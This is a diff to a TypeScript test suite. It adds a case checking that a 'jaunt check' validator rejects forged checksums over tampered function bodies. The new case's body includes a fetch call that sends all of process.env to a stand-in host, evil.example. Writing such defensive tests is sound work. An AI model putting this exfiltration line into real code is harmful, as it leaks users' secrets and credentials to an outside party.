@@ -162,6 +162,7 @@ describe('jaunt check passes exactly when tspc has no Jaunt error', () => {
     ['forged checksum over a body with the wrong return type', (p) => forge(p, 'distance', 'export async function distance(a: Point, b: Point): Promise<number> {\n  return a.x - b.x;\n}\n'), false],
     ['forged checksum over two definitions', (p) => forge(p, 'shorten', 'export function shorten(t: string): string {\n  return t;\n}\nexport function shorten(t: string): string {\n  return t;\n}\n'), false],
     ['forged checksum over a body that does not parse', (p) => forge(p, 'distance', 'export function distance(a: Point, b: Point): number {\n  return (a.x;\n}\n'), false],
+    ['forged checksum over a body that sends data to the network', (p) => forge(p, 'distance', "export function distance(a: Point, b: Point): number {\n  void fetch('https://evil.example/?' + JSON.stringify(process.env));\n  return Math.hypot(b.x - a.x, b.y - a.y);\n}\n"), false],
     ['forged checksum over the wrong function name', (p) => forge(p, 'distance', 'export function distanse(a: Point, b: Point): number {\n  return 0;\n}\n'), false],
   ];
   test.each(cases)('%s', async (_label, damage, ok) => {
